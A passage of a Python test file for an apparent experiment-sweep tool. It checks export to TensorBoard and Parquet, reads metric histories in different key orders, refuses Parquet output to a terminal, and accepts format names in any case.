    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator

    steps, keys = 20_000, 3_000
    store = _large_trial_store(tmp_path / "store", steps, keys)
    out = export_sweep("big", tmp_path / "tb", format="tensorboard", store=store)
    acc = EventAccumulator(str(out / "trial-0000"), size_guidance={"scalars": 0})
    acc.Reload()
    assert len(acc.Tags()["scalars"]) == keys + 1
    loss = acc.Scalars("loss")
    expected = [(s, -float(s) if s >= steps - 100 else math.inf if s == 7 else 1.0 / (s + 1),
                 5000.0 + s if s >= steps - 100 else 1000.0 + s)
                for s in range(steps) if s % 997 != 5 or s >= steps - 100]
    assert [e.step for e in loss] == [s for s, _, _ in expected]
    assert [e.value for e in loss] == pytest.approx([v for _, v, _ in expected], rel=1e-6)
    assert [e.wall_time for e in loss] == [w for _, _, w in expected]
    assert all(acc.Scalars(f"m.{k:05d}")[0].value == k for k in range(0, keys, 97))
    assert [e.step for e in EventAccumulator(str(out / "trial-0001")).Reload().Scalars("loss")] == list(range(5))

    table = pq.read_table(export_sweep("big", tmp_path / "big.parquet", store=store)).to_pydict()
    assert len(table) == 8 + 2 + keys   # the fixed columns, params.lr, metrics.loss and the 3,000
    assert table["metrics.m.02999"] == [2999.0, None] and table["params.lr"] == [0.1, 0.2]
    assert table["number"] == [0, 1] and table["metrics.loss"] == [0.5, 0.5]


def test_a_trial_s_curves_read_in_any_key_order_are_the_same(tmp_path):
    """`trial_histories` streams a trial's keys from one query ordered by key; a key read out of that order
    (or after a key left unread) gets its own query: the same points either way."""
    store = _large_trial_store(tmp_path / "store", 300, 5)
    st = Store.open(store, readonly=True)
    try:
        with st.snapshot():
            in_order = queries.metric_history(st, "big")
            backwards = {n: {k: list(curves[k]) for k in reversed(list(curves))}
                         for n, curves in queries.trial_histories(st, "big")}
            skipping = {n: {k: list(curves[k]) for k in list(curves)[1::2]}
                        for n, curves in queries.trial_histories(st, "big")}
    finally:
        st.close()
    assert backwards == in_order and len(in_order[0]) == 6 and len(in_order[0]["loss"]) == 300
    assert in_order[0]["loss"][-1] == (299, -299.0, 5299.0)   # the second attempt's point wins
    assert skipping[0] == {k: in_order[0][k] for k in list(in_order[0])[1::2]}


def test_parquet_to_standard_output_on_a_terminal_is_refused_not_printed(swept, tmp_path):
    """`sweeplab export SW -o - -f parquet` typed at a terminal: binary bytes would garble it; refused (exit 2)
    with the fix, and nothing written. Redirected (`> t.parquet`) it is written as before."""
    import pty

    main, side = pty.openpty()
    try:
        done = subprocess.run([sys.executable, "-m", "sweeplab", "export", "sw", "--store", str(swept), "-o", "-",
                               "-f", "parquet"], cwd=tmp_path, stdin=subprocess.DEVNULL, stdout=side,
                              stderr=subprocess.PIPE, text=True, timeout=120)
        os.set_blocking(main, False)
        try:
            shown = os.read(main, 65536)
        except BlockingIOError:
            shown = b""
    finally:
        os.close(side)
        os.close(main)
    assert done.returncode == 2, done.stderr
    assert "terminal" in done.stderr and "parquet" in done.stderr and "Traceback" not in done.stderr
    assert b"PAR1" not in shown
    with open(tmp_path / "t.parquet", "wb") as f:
        piped = subprocess.run([sys.executable, "-m", "sweeplab", "export", "sw", "--store", str(swept), "-o", "-",
                                "-f", "parquet"], cwd=tmp_path, stdout=f, stderr=subprocess.PIPE, timeout=120)
    assert piped.returncode == 0 and (tmp_path / "t.parquet").read_bytes()[:4] == b"PAR1"


@pytest.mark.parametrize("given", ["CSV", "Parquet", " csv "])
def test_a_format_name_is_read_whatever_its_case(swept, tmp_path, given):
    out = export_sweep("sw", tmp_path / "t", format=given, store=swept)
    assert out == tmp_path / "t"
    assert (out.read_bytes()[:4] == b"PAR1") == ("arq" in given)
